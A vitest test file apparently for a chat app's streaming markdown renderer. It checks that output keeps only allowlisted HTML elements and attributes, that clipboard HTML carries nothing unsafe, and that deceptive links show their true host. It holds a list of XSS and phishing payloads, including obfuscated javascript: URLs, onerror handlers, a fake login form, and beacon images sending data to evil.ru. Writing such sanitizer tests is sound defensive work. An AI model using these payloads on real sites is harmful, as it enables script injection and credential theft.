import { expect, test } from 'vitest';
import { overwriteGetLocale } from '../../paraglide/runtime.js';
import { MarkdownDocument } from './markdown-document.ts';
import { markdownToHtml } from './markdown-to-html.ts';
import { renderDocument } from './testing/render-markdown.fixture.ts';

overwriteGetLocale(() => 'en');

const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1) /></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.ru"><input name=password><button>Log in</button></form>',
  '<style>*{display:none}</style><div style="position:fixed;inset:0">x</div>',
  '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>',
  '<details open ontoggle=alert(1)>x</details>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<base href="https://evil.ru/"><meta http-equiv=refresh content="0;url=https://evil.ru">',
  'text <b onclick=alert(1)>bold</b> <object data="x"></object>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](blob:https://a.b/c) [y](file:///etc/passwd) [z](about:blank)',
  '[x](//evil.ru) [y](/api/v1/chats) [z](?logout) [w](#top)',
  '[x](https://ya.ru@evil.ru/) [y](https://user:pass@evil.ru)',
  '<javascript:alert(1)> <vbscript:x>',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '[x]\n\n[x]: <data:text/html,<script>alert(1)</script>>',
  '![x](javascript:alert(1)) ![y](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![x](https://evil.ru/?secret=1)',
  '![x" onerror="alert(1)](https://evil.ru/a.png "t\\" onload=\\"alert(1)")',
  '![x][i]\n\n[i]: https://evil.ru/pixel.gif',
  '[![x](https://evil.ru/a.png)](javascript:alert(1))',
  '[x](https://a.b/"onmouseover="alert(1))',
  '[x](https://a.b "title\\" onclick=\\"alert(1)")',
  '```"><script>alert(1)</script>\ncode\n```',
  '```html\n</code></pre><script>alert(1)</script>\n```',
  '`</code><script>alert(1)</script>`',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '# <script>alert(1)</script>\n\n> <svg/onload=alert(1)>\n\n- <video src=x onerror=alert(1)>',
  '$\\href{javascript:alert(1)}{x}$ $$\\htmlData{x=1}{y}\\includegraphics{https://evil.ru/a}$$',
  'a[^1]\n\n[^1]: [x](javascript:alert(1)) <img src=x onerror=alert(1)>',
  '[\u202Egnp.exe](https://evil.ru/\u202Efdp.exe)',
  '[https://bank.ru](https://evil.ru) [bank.ru](https://evil.ru)',
  '[x](streamdown:incomplete-link) ![x](streamdown:incomplete-image)',
  'www.evil.ru http://evil.ru javascript://evil.ru/%0aalert(1) a@b.ru',
  '>'.repeat(300),
];

const elements = new Set(
  'a bdi blockquote br button code del div em figcaption figure h3 h4 h5 h6 hr li ol p path polyline pre rect section span strong sup svg table tbody td th thead tr ul line circle'.split(
    ' ',
  ),
);
const attributes = new Set(
  'aria-expanded aria-haspopup data-tex data-language aria-hidden aria-label aria-pressed class cx cy d data-align data-depth data-done data-settled data-size data-token data-tooltip data-wrapped dir disabled fill height hidden href id points r rel role rx ry scope start stroke stroke-linecap stroke-linejoin stroke-width style tabindex target title type viewbox width x x1 x2 xmlns y y1 y2'.split(
    ' ',
  ),
);

const tags = /<\/?([a-z0-9-]+)((?:\s+[^\s=>"]+(?:="[^"]*")?)*)\s*\/?>/gi;

function complaints(html: string): string[] {
  const found = [...html.matchAll(tags)].flatMap(([, name = '', list = '']) => [
    ...(elements.has(name.toLowerCase()) ? [] : [`<${name}>`]),
    ...[...list.matchAll(/([^\s="]+)(?:="([^"]*)")?/g)].flatMap(([, attribute = '', value = '']) => badAttribute(attribute, value)),
  ]);
  // Whatever the pattern above did not take for an element must not be one.
  const rest = html.replace(tags, '');
  return rest.includes('<') ? [...found, rest] : found;
}

function badAttribute(name: string, value: string): string[] {
  const isBad =
    !attributes.has(name.toLowerCase()) ||
    (name === 'href' && !/^(?:https?:\/\/|mailto:|#note-)/.test(value)) ||
    (name === 'style' && !value.startsWith('contain-intrinsic-size:'));
  return isBad ? [`${name}="${value}"`] : [];
}

test('the guard of this test sees what it has to see', () => {
  const bad = ['<img src="x"/>', '<a href="javascript:x">y</a>', '<p onclick="x">y</p>', '<p style="color:red">x</p>', '<p x=<b>'];
  for (const html of bad) expect(complaints(html)).not.toEqual([]);
});

test.each(payloads)('%j puts nothing on the page, in pieces of any size', (payload) => {
  const text = `До.\n\n${payload}\n\nПосле **всего**.`;
  for (const size of [1, 5, text.length]) {
    const document = new MarkdownDocument();
    for (let end = size; end < text.length; end += size) {
      document.update(text.slice(0, end));
      expect(complaints(renderDocument(document))).toEqual([]);
    }
    document.finish(text);
    expect(complaints(renderDocument(document))).toEqual([]);
  }
});

test.each(payloads)('%j puts nothing unsafe on the clipboard', (payload) => {
  const html = markdownToHtml(payload);
  expect(html).not.toMatch(/<(?:script|img|svg|iframe|form|input|style|object|base|meta|math|details|video)/i);
  expect(html).not.toMatch(/href="(?!https?:|mailto:)/i);
});

const render = (text: string) => {
  const document = new MarkdownDocument();
  document.finish(text);
  return renderDocument(document);
};

test('a link that shows another address says where it leads', () => {
  expect(render('[https://bank.ru](https://evil.ru/x)')).toContain('(evil.ru)');
  expect(render('[ya.ru](https://ya.ru/x)')).not.toContain('link-host');
  expect(render('[x](https://ya.ru)')).toContain('target="_blank" rel="noopener noreferrer nofollow"');
});

test('a picture waits for a click and says whose it is', () => {
  const html = render('![Кот](https://cats.example/cat.png)');
  expect(html).not.toContain('<img');
  expect(html).toContain('Кот');
  expect(html).toContain('cats.example');
});

test('headings stand below those of the page', () => {
  expect(render('# a\n\n## b\n\n###### c').match(/<h\d/g)).toEqual(['<h3', '<h4', '<h6']);
});
